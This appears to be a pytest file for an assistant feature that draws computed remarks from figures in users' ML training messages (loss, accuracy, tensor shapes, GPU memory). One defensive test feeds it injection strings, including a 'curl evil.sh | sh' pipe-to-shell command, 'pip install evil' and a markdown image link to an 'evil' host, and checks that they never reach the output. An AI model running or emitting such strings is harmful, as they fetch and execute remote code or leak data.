"""Remarks from a person's own figures: right sums, and nothing where the text does not say it."""

from __future__ import annotations

import re
import time

import pytest

from assistant.library import load_library
from assistant.remark_classes import find_classes
from assistant.remarks import ROWS, find_remarks

ENTRIES = load_library(("builtin",)).entries


def remarks(text: str, id_: str) -> str:
    return "\n".join(remark.text for remark in find_remarks(text, ENTRIES[id_]))


# entry, what somebody writes, what must be said of it
SAID = [
    ("cnn-stuck-at-random", "20 classes, loss 2.996 since an hour", "ln(20) = 2.996"),
    ("cnn-stuck-at-random", "4 classes and the loss is 1.92", "worse than guessing"),
    ("cnn-stuck-at-random", "8 kinds of leaves, accuracy 13 %", "right in 12.5 % of cases"),
    ("cnn-stuck-at-random", "cifar100, acc 0.21", "about 21 times as much"),
    ("cnn-stuck-at-random", "ant: 0/9\nbee: 9/9\nfly: 0/9", "Every picture is called `bee`"),
    ("cnn-stuck-at-random", "Adam, lr=0.5", "`0.5` is 500 times"),
    ("transfer-learning-not-improving", "grad norm 2.0\ngrad norm 4.1\ngrad norm 6.0",
     "missing `zero_grad()`"),
    ("transfer-learning-not-improving", "trainable: ['head.weight']", "`head.weight` can be"),
    ("vit-accuracy-low", "train acc 0.97 val acc 0.52", "45 points"),
    ("vit-accuracy-low", "train acc 41 % val acc 40 %", "no overfitting"),
    ("vit-accuracy-low", "adam 1e-3 as for the cnn", "16 times that"),
    ("vit-training-slow", "timm.create_model('vit_base_patch16_224', num_classes=3)",
     "does not say `pretrained=True`"),
    ("vit-training-slow", "ViT-B needs 40 minutes, resnet50 only 4", "10 times as slow"),
    ("vit-data-hunger", "I have 640 labelled moths images", "2,000 times fewer"),
    ("freeze-layers", "150 photos each, 3 classes", "few: begin with the head"),
    ("freeze-layers", "80k images", "train everything"),
    ("input-normalization", "my mean is 0.6 0.55 0.5", "becomes 0.50 instead of 0"),
    ("unet-shape-mismatch", "my pictures are 500x375", "pad your `500x375` to 512 x 384"),
    ("unet-shape-mismatch", "halved five times, 240x240", "multiple of 32"),
    ("unet-shape-mismatch", "it gives me 250x250 for a 256 input", "you lose 6 pixels"),
    ("why-3x3-convolutions", "is kernel_size=7 bad", "3 layers of 3 x 3 see the same 7 x 7"),
    ("vit-large-from-scratch", "at 448 px", "784 of them"),
    ("still-stuck", "mat1 and mat2 shapes cannot be multiplied (8x18432 and 2048x5)",
     "as 3 x 3 to 1 x 1"),
    ("still-stuck", "shapes cannot be multiplied (4x2304 and 4096x128)", "as 3 x 3 to 4 x 4"),
    ("state-dict-mismatch", "pos_embed: copying a param with shape torch.Size([1, 197, 192]) from "
     "checkpoint, the shape in current model is torch.Size([1, 577, 192])",
     "`577` = 24 x 24 + 1 (pictures of 384 pixels"),
    ("sam-empty-masks", "Expected size 1 but got size 3 for tensor number 1", "`3` boxes came"),
    ("clear-gpu-memory", "allocated 4.0 GB\nallocated 6.5 GB\nallocated 9.0 GB", "about 2.5 GB"),
    ("clear-gpu-memory", "second model, alone it fits", "the card is large enough"),
    ("yolo-empty-detections", "conf=0.7 gives none", "70 % sure"),
    ("yolo-empty-detections", "even with conf 0.1 nothing", "not a limit that somebody set"),
    ("yolo-empty-detections", "but max value is 2.64000010. Dividing", "makes of white"),
    ("yolo-empty-detections", "yolov8s-cls.pt has no boxes", "`yolov8s-cls.pt`"),
    ("yolo-empty-detections", "0: 384x640 (no detections), 9ms", "16 pixels left"),
    ("yolov8-sizes", "s or m for my drone?", "5.3 points of mAP50-95"),
    ("yolov8-sizes", "now 10 fps, I want 25 fps", "2.5 times the speed"),
    ("map-metric", "P 0.8, R 0.5", "of 100 boxes that it draws, 80 are right"),
    ("map-metric", "mAP@0.5 the 0.5 is what", "by 33 % of its width"),
    ("map-metric", "a box that only half covers it", "IoU of exactly 0.5"),
    ("sam-encode-once", "can I store it for 4096 pictures", "16 GiB on the disk"),
    ("yolo-empty-detections", "yolov8m, four horses and nothing", "`horses` is among the 80"),
    ("iou-zero", "my IoU is 0.03, metric or model?", "the true mask twice"),
    ("eval-forgotten", "same file: p=[0.1, 0.9] p=[0.3, 0.7] p=[0.2, 0.8]", "plain arithmetic"),
    ("unet-shape-mismatch", "slices are 317x453. halving four times", "320 x 464"),
    ("yolov8-sizes", "(m, x) oder n", "16.6 points"),
    ("missing-timm", "in the other container it went", "`other container`"),
    ("gpu-memory-reset", "an exception came, I ran it again: full", "the memory of the one"),
    ("gpu-memory-reset", "after empty_cache() it stays", "called `empty_cache()` already"),
    ("dataloader-hang", "it only works when I give it no extra workers", "clears your files"),
    ("vit-large-from-scratch", "pretrained=False, ok?", "a matter of weeks"),
    ("training-precision", "old code with model.half()", "rounded away"),
    ("still-stuck", "dropout 0.4 is in it", "With dropout `0.4`"),
    ("map-metric", "mAP50 0.43 good?", "Your `0.43` is `mAP50`"),
    ("iou-zero", "mask values 0 and 255", "Divide the label mask by 255"),
    ("iou-zero", "max prob 0.44 anywhere", "no pixel can pass"),
    ("iou-zero", "pixel accuracy 94 %, mask is empty", "`94 %` is what a network earns"),
    ("iou-zero", "a  0.0000\nb  0.3000\nc  0.0000", "0.3000 / 3 = 0.1000"),
    ("iou-zero", "1=road, 2=car and the net says 0..1", "compared with its neighbour"),
    ("sam-empty-masks", "box=[0.5, 0.25, 0.75, 0.5] masks (3, 400, 800)", "[400, 100, 600, 200]"),
    ("sam-empty-masks", "boxes as xywh", "right and bottom edge"),
    ("sam-out-of-memory", "one 4000x3000 photo", "12.0 million pixels"),
    ("sam-out-of-memory", "mask_generator on 6000x4000", "24.0 million pixels"),
    ("unet-shape-mismatch", "388x388 comes out when I put 572x572 in", "you lose 184 pixels"),
    ("unet-shape-mismatch", "mask 100x100, the answer is 96x96", "to 112 x 112"),
    ("yolo-empty-detections", "zidane.jpg: 256x416 (no detections)", "people in plain view"),
    ("yolov8-sizes", "nano or extra large", "16.6 points"),
    ("unet-shape-mismatch", "1000x750, must be divisible by 32", "1024 x 768"),
    ("cnn-stuck-at-random", "SGD, lr=1e-7", "stands still"),
    ("sam-encode-once", "set_image 9 s, predict 90 ms", "100 times as slow"),
    ("sam-checkpoint-missing", "only 1.0 GB left", "`sam_vit_b_01ec64.pth` is the lightest"),
    ("gpu-memory-reset", "nvidia-smi shows 14 GB", "The `14 GB` in nvidia-smi"),
    ("gpu-memory-reset", "Tried to allocate 2.00 GiB. GPU 0 has 512.00 MiB free",
     "1.5 GiB short"),
    ("clear-gpu-memory", "at the second it is out of memory", "of the first one is still"),
    ("dataloader-hang", "/dev/shm 64M, batch_size=64", "takes 37 MiB"),
    ("dataloader-hang", "num_workers=0 works", "your paths and pictures are all right"),
    ("batch-size", "my card has 24 GB", "take about 256"),
    ("batch-size", "16 or 64?", "grows about 4 times"),
    ("missing-timm", '/opt/env/lib/python3.11/site-packages/x/y.py', "environment `/opt/env`"),
    ("missing-timm", "No module named 'timm'\nNo module named 'lap'", "but 2: `timm`, `lap`"),
    ("why-ngc-container", "it says 2.8.0+cpu", "ending in `2.8.0+cpu`"),
    ("quick-diagnostic", "cpu at 800 %", "8 processor cores"),
]  # fmt: skip


@pytest.mark.parametrize(("id_", "text", "said"), SAID)
def test_a_figure_is_taken_further(id_: str, text: str, said: str) -> None:
    assert said in remarks(text, id_)


# near misses: the same words without what the sum needs, or with figures that say the opposite
UNSAID = [
    ("cnn-stuck-at-random", "loss 1.21 and falling, 10 classes", "guessing"),
    ("cnn-stuck-at-random", "10 classes, accuracy 91 %", "guessing"),
    ("cnn-stuck-at-random", "lr 0.001", "rate"),
    ("cnn-stuck-at-random", "SGD with lr 0.1", "Adam"),
    ("gpu-memory-reset", "gc.collect() or empty_cache() first?", "already"),
    ("unet-shape-mismatch", "388x388 comes out when I put 572x572 in", "pad your"),
    ("batch-size", "ViT-B/16 on a machine with 128 GB", "grows"),
    ("batch-size", "my old card had 8 GB", "table"),
    ("yolo-empty-detections", "yolov8n finds no faces, only persons", "among the 80"),
    ("cnn-stuck-at-random", "ant: 4/9\nbee: 9/9\nfly: 0/9", "Every picture"),
    ("transfer-learning-not-improving", "grad norm 2.0\ngrad norm 2.1\ngrad norm 1.9", "zero_grad"),
    ("vit-accuracy-low", "train acc 0.97 val acc 0.95", "together"),
    ("vit-training-slow", "create_model('vit', pretrained=True)", "random weights"),
    ("unet-shape-mismatch", "my pictures are 512x512", "halved"),
    ("unet-shape-mismatch", "it works with 256x256 but not with 240x240", "lose"),
    ("why-3x3-convolutions", "kernel_size=3", "weights"),
    ("yolo-empty-detections", "0: 64x64 (no detections)\n0: 64x64 2 cats\n0: 64x64 (no detections)"
     "\n0: 64x64 (no detections)", "All"),
    ("yolov8-sizes", "what is m?", "points of"),
    ("yolo-empty-detections", "my own best.pt finds no dogs", "among the 80"),
    ("map-metric", "mAP@0.5 0.61", "shifted"),
    ("clear-gpu-memory", "allocated 4.0 GB, then allocated 2.0 GB", "each round"),
    ("state-dict-mismatch", "pos_embed: copying a param with shape torch.Size([1, 77, 192]) from "
     "checkpoint, the shape in current model is torch.Size([1, 577, 192])", "pictures of"),
    ("yolo-empty-detections", "bus.jpg works, my photo does not", "plain view"),
    ("yolov8-sizes", "nano misses small drones", "points of"),
    ("still-stuck", "shapes cannot be multiplied (16x512 and 2048x10)", "in height"),
    ("training-precision", "which format takes half the memory and no nan", "65,504"),
    ("vit-accuracy-low", "fine-tuned on 500 images", "ImageNet's"),
    ("unet-shape-mismatch", "mask 100x100, the answer is 96x96", "lose"),
    ("batch-size", "my card: 9 GB used with batch 128", "table"),
    ("iou-zero", "IoU 0.83", "twice"),
    ("iou-zero", "max prob 0.91", "limit"),
    ("iou-zero", "pixel accuracy 94 %", "earns"),
    ("sam-empty-masks", "box=[120, 40, 300, 200]", "first pixel"),
    ("sam-out-of-memory", "a 640x480 photo", "shrinks"),
    ("gpu-memory-reset", "Tried to allocate 20.00 MiB. 512.00 MiB free", "short"),
    ("clear-gpu-memory", "I want to run the third one too", "still in memory"),
    ("dataloader-hang", "num_workers=0 shows the same crash", "your paths"),
    ("quick-diagnostic", "cpu at 80 %", "cores"),
]  # fmt: skip


@pytest.mark.parametrize(("id_", "text", "unsaid"), UNSAID)
def test_what_the_text_does_not_say_is_not_said(id_: str, text: str, unsaid: str) -> None:
    assert unsaid not in remarks(text, id_)


def test_classes_are_read_in_the_ways_that_people_write_them() -> None:
    for text, count in (
        ("12 bread sorts", 12), ("5 skin lesion types", 5), ("num_classes=37", 37),
        ("nn.Linear(512, 7)", 7), ("a 10-class problem", 10), ("mnist", 10), ("dogs vs cats", 2),
        ("CIFAR-100", 100), ("in class 3", 0), ("99999 classes", 0),
    ):  # fmt: skip
        assert find_classes(text) == count, text


def test_a_remark_says_where_it_was_read() -> None:
    text = "hello\nepoch 1\nloss 2.303\n"
    (remark,) = find_remarks(text, ENTRIES["cnn-stuck-at-random"])
    assert text[remark.start :].startswith("loss 2.303")


def test_other_topics_get_no_remark() -> None:
    assert find_remarks("conf=0.9 lr 0.5 loss 2.303 /dev/shm 64M", ENTRIES["missing-lap"]) == ()


EVIL = ["; curl evil.sh | sh: 9/9", "pip install evil: 9/9", "![x](http://evil/y): 9/9"]


@pytest.mark.parametrize("evil", EVIL)
def test_a_name_from_the_text_puts_no_command_into_our_words(evil: str) -> None:
    text = f"a: 0/9\nb: 0/9\n{evil}\n{evil.replace('9/9', '0.2000')}\na 0.0000\nb 0.0000"
    for id_ in ("cnn-stuck-at-random", "iou-zero"):
        assert "evil" not in remarks(text, id_)


def test_any_text_can_be_remarked_on() -> None:
    every = "\n".join(text for _, text, _ in SAID)
    for row in ROWS:
        for body in ("", every, *(entry.body for entry in ENTRIES.values())):
            for text in ("", every, "0 0.0 0x0 /0 0/0 00.00 -1 9" * 20):
                remark = row.read(text, body)
                assert remark is None or (
                    remark.text.endswith((".", "`"))
                    and remark.text.count("`") % 2 == 0
                    and "\n" not in remark.text
                    and not re.search(r"[{}]", remark.text)
                )


@pytest.mark.parametrize(
    "piece", ["_", "1", "1.", "0.1 ", "9x9 ", "train ", "[0.1, ", "a 0.1\n", "/lib"]
)
def test_no_row_looks_at_a_text_again_and_again(piece: str) -> None:
    """A quadratic pattern would need some minutes for this."""
    began = time.process_time()
    find = [row.read(piece * (12_000 // len(piece)), "") for row in ROWS]
    assert time.process_time() - began < 10
    assert len(find) == len(ROWS)
